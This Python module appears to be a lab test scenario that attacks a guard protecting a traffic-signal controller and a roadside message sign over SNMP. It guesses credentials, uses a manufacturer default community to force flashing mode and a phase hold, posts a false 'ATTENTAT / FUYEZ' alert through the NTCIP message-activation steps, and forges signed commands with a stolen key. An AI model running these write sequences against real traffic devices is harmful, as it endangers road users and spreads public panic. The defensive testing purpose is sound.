"""SNMP from a host beside the guard.

Somebody has a laptop on the cabinet's network, where a signal controller (NTCIP 1202) and a message
sign (NTCIP 1203) stand behind a guard. First he has no secret and guesses: version 3 takes nothing.
Then he knows the community of version 2c that the maker left on: nothing can stop that write. What
must happen: the guard reads back what nobody commanded, gives the junction back, blanks the sign,
signs what it saw, and the town hears of it. Last he sends commands to the guard itself.

What the guard does not read back is written as well and said in the notes: it is not noticed.
"""

from __future__ import annotations

import asyncio
import time
from collections import Counter

from beffroi.guard.drivers import ntcip_code as code
from beffroi.guard.drivers import ntcip_oids as oids
from beffroi.guard.drivers.ntcip_oids import Oid
from beffroi.kernel.receipt import TAMPERED
from beffroi.lab.attackers import forge
from beffroi.lab.attackers.score import Score, Story
from beffroi.lab.attackers.town import Town
from beffroi.lab.guards.snmp import COMMUNITY, USER, Hand
from beffroi.model.asset import Label

NAME = "raw-snmp"
STORY = Story(
    Label("Écritures SNMP à côté de la garde", "SNMP writes beside the guard"),
    Label(
        "Un ordinateur dans l’armoire écrit au contrôleur de feux et au panneau, par SNMP.",
        "A laptop in the cabinet writes to the signal controller and the sign, by SNMP.",
    ),
    Label(
        "le réseau de l’armoire, la communauté SNMP laissée par le fabricant, l’accès au courtier, "
        "une clé logicielle d’un élu",
        "the cabinet’s network, the SNMP community that the maker left, access to the broker, one "
        "software key of an elected person",
    ),
    Label(
        "SNMPv3 contre qui n’a pas de secret ; contre qui en a un, relecture, retour à l’état sûr, "
        "reçu signé, alarme",
        "SNMPv3 against who has no secret; against who has one, read-back, return to the safe "
        "state, signed receipt, alarm",
    ),
)
TIMES = 2
UNDONE_S_MAX = 30.0
OTHER_SLOT, LIE_MINUTES = 1, 30
LIE = b"[jl3]ATTENTAT[nl]FUYEZ"
HOLD: Oid = (*oids.ASC, 1, 5, 1, 4, 1)  # phaseControlGroupHold: no guard has a name for it
OWN_KEY = bytes([202]) * 32
GUESSES = (
    {"community": "public"},
    {"community": "private"},
    {"user": "admin"},
    {"user": USER},  # his name is no secret: version 3 without a password
    {"user": USER, "auth": "guessed-password", "priv": "guessed-password"},
)


async def play(town: Town, score: Score) -> None:
    """See the module."""
    junction, sign = town.snmp.target("junction"), town.snmp.target("board")
    score.ignored |= {junction, sign}  # raw writes are the attack; what stays is a breach
    await _guess(town, score, junction, sign)
    await _known(town, score, junction, sign)
    await _command(town, score, junction, sign)
    hand = town.snmp.hand(junction, community=COMMUNITY)
    if not await hand.write(HOLD, 0xFF):
        score.note(
            "un maintien de phase écrit par cette communauté est pris et n’est pas relu par la "
            "garde : le temps de vert minimal, le jaune et le dégagement restent au contrôleur et "
            "au moniteur de conflits ; il faut fermer SNMP 1 et 2c à l’appareil",
            "a phase hold written with this community is taken and the guard does not read it "
            "back: minimum green, amber and clearance stay with the controller and the conflict "
            "monitor; SNMP 1 and 2c must be closed at the device",
        )
        await hand.write(HOLD, 0)


async def _guess(town: Town, score: Score, junction: str, sign: str) -> None:
    stopped, times = 0, 0
    for known in GUESSES:
        for target, oid, value in (
            (junction, oids.SYSTEM_PATTERN_CONTROL, oids.FLASH),
            (sign, oids.ACTIVATE_MESSAGE, _activation(oids.PERMANENT, 1, _BEFFROI)),
        ):
            times += 1
            if await town.snmp.hand(target, **known).write(oid, value):
                stopped += 1
            else:
                score.breaches.append(f"{target} took a write of {known}")
    score.tried(
        "écrire par SNMP sans secret ou avec un secret deviné",
        "write by SNMP without a secret or with a guessed one",
        times, {"snmp": stopped},
    )  # fmt: skip


async def _known(town: Town, score: Score, junction: str, sign: str) -> None:
    """With the community: taken each time, and each time undone. Signed at least once: a guard
    reports the same hand every ten seconds only."""
    began_s, longest = time.monotonic(), dict[str, float]()
    for target, fr, en in (
        (junction, "mettre le carrefour au clignotant", "set the junction to flashing"),
        (sign, "afficher un faux message", "show a false message"),
    ):
        undone = 0
        for _ in range(TIMES):
            wrong_s = await _write_and_wait(town, score, target)
            if wrong_s is not None:
                undone += 1
                longest[target] = max(wrong_s, longest.get(target, 0.0))
        score.tried(
            f"{fr} avec la communauté connue ({target})",
            f"{en} with the known community ({target})",
            TIMES, {"read_back": undone} if undone else {},
        )  # fmt: skip
        if undone < TIMES:
            score.breaches.append(f"{target} was not brought back")
        signed = await town.comes(
            lambda one=target: any(r.target == one for r in town.said(began_s, TAMPERED))  # type: ignore[misc]
        )
        if not signed:
            score.breaches.append(f"nobody signed what was seen at {target}")
    if len(longest) == 2:
        lit, lied = longest[junction], longest[sign]
        score.note(
            f"{junction} appelé au clignotant {lit:.1f} s au plus, le panneau a menti {lied:.1f} s "
            "au plus : empêché par rien, remarqué et défait",
            f"{junction} called to flash for {lit:.1f} s at most, the sign lied for {lied:.1f} s "
            "at most: prevented by nothing, noticed and undone",
        )


async def _write_and_wait(town: Town, score: Score, target: str) -> float | None:
    """Seconds until the device is back; None if that does not come."""
    began_s = time.monotonic()
    hand = town.snmp.hand(target, community=COMMUNITY)
    is_sign = town.asset(target).kind == "board"
    error = await _lie(hand) if is_sign else await hand.write(_CALL, oids.FLASH)
    if error:
        score.breaches.append(f"the attack on {target} is none: {error}")
        return None
    while await town.snmp.looked_at(target, _TEXT if is_sign else _CALL) != (b"" if is_sign else 0):
        if time.monotonic() - began_s > UNDONE_S_MAX:
            return None
        await asyncio.sleep(0.2)
    return time.monotonic() - began_s


async def _lie(hand: Hand) -> str:
    """As the standard wants it: open a slot, write, have it validated, activate."""

    def cell(column: int) -> Oid:
        return oids.message(column, oids.CHANGEABLE, OTHER_SLOT)

    for oid, value in (
        (cell(oids.STATUS), oids.MODIFY_REQ),
        (cell(oids.MULTI_STRING), LIE),
        (cell(oids.RUN_TIME_PRIORITY), 255),
        (cell(oids.STATUS), oids.VALIDATE_REQ),
        (oids.ACTIVATE_MESSAGE, _activation(oids.CHANGEABLE, OTHER_SLOT, code.message_crc(LIE))),
    ):
        if error := await hand.write(oid, value):
            return error
    return ""


async def _command(town: Town, score: Score, junction: str, sign: str) -> None:
    """To the guard itself: signed by a key of his own, then by one stolen key."""
    place = str(town.asset(sign).attrs["places"][0])
    wishes: list[tuple[str, str, dict[str, int | str]]] = [
        (junction, "select_plan", {"plan": 4}),
        (junction, "flash", {}),
        (sign, "show", {"template": "bienvenue", "minutes": 60}),
        (sign, "alert", {"template": "evacuation", "place": place, "minutes": 30}),
    ]
    stopped = Counter[str]()
    for key in (OWN_KEY, town.trustees.seed("adjoint")):
        made = [forge.command(town, *wish) for wish in wishes]
        stopped += await forge.fire(town, [(one.guard, forge.wire(one, key)) for one in made])
    score.tried(
        "commandes fabriquées, droit à la garde : plan, clignotant, message, alerte",
        "forged commands straight to the guard: plan, flash, message, alert",
        2 * len(wishes), stopped,
    )  # fmt: skip


def _activation(memory: int, number: int, crc: int) -> bytes:
    return code.activation(code.MessageId(memory, number, crc), LIE_MINUTES, 255)


_CALL = oids.SYSTEM_PATTERN_CONTROL
_TEXT = oids.message(oids.MULTI_STRING, oids.CURRENT_BUFFER, 1)
_BEFFROI = code.message_crc(b"BEFFROI")
